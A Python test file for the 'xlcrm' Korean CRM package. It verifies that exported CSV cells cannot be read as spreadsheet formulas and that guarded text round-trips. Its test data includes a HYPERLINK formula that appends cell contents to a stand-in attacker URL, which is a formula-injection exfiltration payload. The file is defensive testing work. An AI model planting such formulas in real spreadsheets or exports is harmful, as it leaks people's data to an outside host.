"""No text of a CSV file that xlcrm writes is a formula, and what it writes comes back as it was."""

from __future__ import annotations

import ast
import csv
from datetime import date, datetime
from io import StringIO
from pathlib import Path
from typing import TYPE_CHECKING, Final

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import xlcrm
from xlcrm.domain.csv_text import csv_line, csv_of, guarded, spaced, unguarded
from xlcrm.domain.message import Channel, Message, Purpose
from xlcrm.incoming.read import read_rows
from xlcrm.jobs.log.find import find_entries, write_entries
from xlcrm.jobs.outreach.carriers import carrier_of
from xlcrm.jobs.roll import roll, write_roll
from xlcrm.schema.sheets import LEDGER

if TYPE_CHECKING:
    from collections.abc import Iterator

PACKAGE: Final = Path(xlcrm.__file__).parent
DAY: Final = date(2024, 10, 1)
NOW: Final = datetime(2024, 10, 1, 9)  # noqa: DTZ001 - wall time
HOSTILE: Final = '=HYPERLINK("http://evil.example/?"&A1,"열기")'
SIGNS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
CELLS: Final = st.lists(
    st.text(st.sampled_from("=+-@'\t\n\r,;|\"＝＠가1 ")), min_size=1, max_size=4
)


def rows_in(data: bytes) -> list[list[str]]:
    """Return what a spreadsheet is given."""
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


@given(CELLS)
def test_no_cell_is_a_formula_and_each_comes_back(cells: list[str]) -> None:
    """Whatever it says, apostrophes and separators too."""
    (row,) = rows_in(csv_line(cells).encode())
    assert not any(cell.startswith(SIGNS) for cell in row)
    assert list(map(unguarded, row)) == cells
    assert rows_in(csv_line(cells, guard=False).encode()) == [cells]
    assert not any(spaced(cell).startswith(SIGNS) for cell in cells)


def test_a_text_with_a_separator_stands_in_quotes() -> None:
    """Also with those of other countries, else what follows is a cell of its own."""
    assert csv_line(["가", "나;=1"]) == '"가","나;=1"\r\n'
    assert csv_line([-3, "-3", None]) == "-3,'-3,\r\n"


def test_csv_is_written_in_one_place_only() -> None:
    """No module has a writer of its own, nor pandas write a file."""
    found = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and (node.attr in {"to_csv", "DictWriter"} or ast.unparse(node) == "csv.writer")
    }
    assert found == {"domain/csv_text.py"}


def test_only_a_gateway_is_handed_rows_that_are_guarded_before() -> None:
    """Every other caller leaves the guard on, or hands on what somebody has asked for."""
    unguarding = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if "guard=False" in path.read_text(encoding="utf-8")
    }
    assert unguarding == {"domain/csv_text.py", "files/handed.py"}
    adding = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if "handed.add_row" in path.read_text(encoding="utf-8")
    }
    assert adding == {"jobs/outreach/csv_carrier.py"}


def office(folder: Path) -> Path:
    """Return an office of which somebody has filled in a form with a formula."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "고객대장"
    sheet.append(["고객 ID", "고객명", "연락처", "계약 시작일", "계약 종료일", "비고"])
    days = (datetime(2024, 1, 1), datetime(2024, 12, 31))  # noqa: DTZ001 - cells know no zone
    sheet.append([1001, "가온상사", "+82-10-1234-5678", *days, "x"])
    journal = book.create_sheet("고객관리일지")
    journal.append(["일지 ID", "일시", "고객 ID", "고객명", "분류", "내용"])
    journal.append(["J-001", datetime(2024, 9, 2, 10), 1001, "가온상사", "문의", "x"])  # noqa: DTZ001
    for cell in (sheet["F2"], journal["F2"]):
        cell.value, cell.data_type = HOSTILE, "s"
    book.save(folder / "대장.xlsx")
    return folder / "대장.xlsx"


def outputs(folder: Path, *, guard: bool) -> Iterator[list[list[str]]]:
    """Yield the rows of every CSV file that commands write of what people have typed."""
    ledger = xlcrm.open_ledger(office(folder))
    asked = roll(ledger, "모든 고객", as_of=DAY, columns=["고객명", "연락처", "비고"])
    out = write_roll(asked, folder / "명단.csv", reveal=True, guard=guard)
    yield rows_in(out.read_bytes())
    out = write_entries(find_entries(ledger, []), folder / "일지.csv", reveal=True, guard=guard)
    yield rows_in(out.read_bytes())
    given = xlcrm.Given(lambda: NOW, output=f"{folder}/발송.csv", guard=guard)
    message = Message(
        "1", "1001", HOSTILE, "01012345678", Channel.TEXT, Purpose.NOTICE, "", HOSTILE
    )
    carrier_of("csv", given).send(message, "k")
    yield rows_in((folder / "발송.csv").read_bytes())


def test_what_commands_write_holds_no_formula_unless_asked_for(tmp_path: Path) -> None:
    """A list, a search in the journal, and a list for a gateway, whose numbers stay as they are."""
    for number, rows in enumerate(outputs(tmp_path, guard=True)):
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(SIGNS) for cell in cells), cells
        assert any(cell in {guarded(HOSTILE), spaced(HOSTILE)} for cell in cells)
        if number == 2:
            assert rows[1][0] == "01012345678"
    (tmp_path / "발송.csv").unlink()
    for rows in outputs(tmp_path, guard=False):
        assert any(cell == HOSTILE for row in rows for cell in row)


def test_our_own_imports_take_the_guard_off_again(tmp_path: Path) -> None:
    """Notes and numbers come back as they stood in the ledger."""
    head = ["고객 ID", "고객명", "연락처", "계약 시작일", "비고"]
    notes = [HOSTILE, "- 재계약 상담", "+82", "'24년 계약", "'=1"]
    rows = [[1001 + at, "가온", "+82-10-1", "2024-01-01", each] for at, each in enumerate(notes)]
    (tmp_path / "명단.csv").write_bytes(csv_of(head, rows))
    read = read_rows(tmp_path / "명단.csv", LEDGER).rows
    assert [row["note"] for row in read] == notes
    assert {row["phone"] for row in read} == {"+82-10-1"}


def test_a_number_with_its_country_is_the_same_however_it_comes_in(tmp_path: Path) -> None:
    """It names the customer, becomes a contract's as lists write it, and stays a text in notes."""
    path = office(tmp_path)
    author = xlcrm.Author("김대리", "log add", NOW)
    said = "+82-10-1234-5678로 다시 걸 것"
    entry = {"customer": "+82 10-1234-5678", "내용": said, "채널": "전화", "방향": "발신"}
    logged = xlcrm.log(xlcrm.open_ledger(path), [entry], now=NOW)
    assert (logged.problems, logged.found.rows[0]["customer_id"]) == ((), 1001)
    ledger = xlcrm.open_ledger(path).commit(logged, by=author)
    head = ["고객명", "연락처", "계약 시작일", "계약 종료일"]
    row = ["온새미", "+82-10-9999-1234", "2024-09-01", "2025-08-31"]
    (tmp_path / "새.csv").write_bytes(csv_of(head, [row]))
    brought = xlcrm.bring(ledger, read_rows(tmp_path / "새.csv", LEDGER), as_of=DAY)
    ledger.commit(brought, by=author)
    book = load_workbook(path)
    phones = [cell.value for cell in book["고객대장"]["C"]][1:]
    assert phones == ["+82-10-1234-5678", "010-9999-1234"]
    (cell,) = [each for row in book["고객관리일지"] for each in row if each.value == said]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    purchase = {
        "일자": "2024-09-02",
        "customer": "+82-10-1234-5678",
        "제품/서비스": "상담",
        "금액": 1,
    }
    added = xlcrm.add(xlcrm.open_ledger(path), "구매이력", [purchase])
    assert (added.problems, added.found.added) == ((), 1)
